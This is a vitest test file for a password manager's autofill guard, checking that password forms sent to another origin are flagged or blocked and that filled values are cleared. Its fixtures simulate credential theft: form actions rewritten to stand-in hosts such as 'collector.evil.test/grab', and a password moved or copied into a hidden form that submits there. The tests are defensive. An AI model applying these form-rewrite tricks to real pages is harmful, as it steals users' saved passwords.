// Where a form sends a password. A destination on another origin is named before a fill; a form whose
// destination is rewritten to another origin after a fill is stopped, and what we filled is cleared;
// so is a form elsewhere that the page moved a filled field into, or copied the password into.
// (form.submit() and `new FormData` go through the formdata event, which jsdom does not fire: the
// e2e security suite covers that path in Chromium.)
import { describe, expect, it } from 'vitest';
import {
  createFormActionGuard,
  destinationOf,
  destinationOrigin,
  foreignDestinationHost,
  sendsAsBefore,
} from '../../../src/autofill/fill/guard-form-action';
import { testPage } from './dom';

const FORM = (action: string) =>
  `<form id="f" action="${action}" method="post"><input id="u" name="user"><input id="p" name="pass" type="password"><button id="go">Sign in</button></form>`;

describe('form destinations', () => {
  it("names a destination on another origin, not the page's own", () => {
    expect(foreignDestinationHost(testPage(FORM('/session')).field('#p'))).toBeNull();
    expect(foreignDestinationHost(testPage(FORM('https://example.com/session')).field('#p'))).toBeNull();
    expect(foreignDestinationHost(testPage(FORM('https://collector.evil.test/grab')).field('#p'))).toBe('collector.evil.test');
  });

  it('sees a submit button that sends elsewhere', () => {
    const page = testPage(`<form action="/ok"><input id="p" type="password" name="p"><button formaction="https://evil.test/x">Go</button></form>`);
    expect(foreignDestinationHost(page.field('#p'))).toBe('evil.test');
  });

  it('treats javascript: actions as sending nowhere', () => {
    const page = testPage(FORM('javascript:void 0'));
    expect(destinationOrigin(page.document.querySelector('form')!)).toBeNull();
  });
});

describe('createFormActionGuard', () => {
  function guarded() {
    const page = testPage(FORM('/session'));
    const blocked: string[] = [];
    const guard = createFormActionGuard({ document: page.document, onBlocked: (host) => blocked.push(host) });
    const form = page.document.getElementById('f') as HTMLFormElement;
    const password = page.field('#p') as HTMLInputElement;
    password.value = 'pw-saved';
    guard.pin([{ field: password, value: 'pw-saved', secret: true }]);
    return { page, form, password, blocked };
  }

  it('lets the form go where it pointed when we filled it', () => {
    const { form, blocked } = guarded();
    let submitted = false;
    form.addEventListener('submit', (event) => {
      submitted = !event.defaultPrevented;
      event.preventDefault();
    });
    form.requestSubmit();
    expect(submitted).toBe(true);
    expect(blocked).toEqual([]);
  });

  it('stops a submit whose action was rewritten to another origin after the fill, and clears the password', () => {
    const { form, password, blocked } = guarded();
    let reachedPage = false;
    form.addEventListener('submit', () => (reachedPage = true));
    form.action = 'https://collector.evil.test/grab';
    form.requestSubmit();
    expect(reachedPage).toBe(false);
    expect(password.value).toBe('');
    expect(blocked).toEqual(['collector.evil.test']);
  });

  function elsewhere(page: ReturnType<typeof testPage>): { other: HTMLFormElement; reachedPage: () => boolean } {
    const other = page.document.createElement('form');
    other.action = 'https://collector.evil.test/grab';
    other.innerHTML = '<input type="hidden" name="copy">';
    page.document.body.append(other);
    let reached = false;
    other.addEventListener('submit', (event) => {
      reached = true;
      event.preventDefault();
    });
    return { other, reachedPage: () => reached };
  }

  it('stops a form elsewhere that the page moved the filled field into', () => {
    const { page, password, blocked } = guarded();
    const { other, reachedPage } = elsewhere(page);
    other.append(password);
    other.requestSubmit();
    expect(reachedPage()).toBe(false);
    expect(password.value).toBe('');
    expect(blocked).toEqual(['collector.evil.test']);
  });

  it('stops a form elsewhere that the page copied the filled password into, and clears the copy', () => {
    const { page, password, blocked } = guarded();
    const { other, reachedPage } = elsewhere(page);
    const copy = other.querySelector('input')!;
    copy.value = password.value;
    other.requestSubmit();
    expect(reachedPage()).toBe(false);
    expect([password.value, copy.value]).toEqual(['', '']);
    expect(blocked).toEqual(['collector.evil.test']);
  });
});

describe('sendsAsBefore', () => {
  it('holds while the field stays in its form and the form keeps its destination, and fails when either changes', () => {
    const page = testPage(FORM('/session') + '<form id="o" action="https://collector.evil.test/grab"></form>');
    const password = page.field('#p') as HTMLInputElement;
    const before = destinationOf(password);
    expect(sendsAsBefore(password, before)).toBe(true);
    page.document.getElementById('o')!.append(password);
    expect(sendsAsBefore(password, before)).toBe(false);
    page.document.getElementById('f')!.append(password);
    expect(sendsAsBefore(password, before)).toBe(true);
    (page.document.getElementById('f') as HTMLFormElement).action = 'https://collector.evil.test/grab';
    expect(sendsAsBefore(password, before)).toBe(false);
  });
});
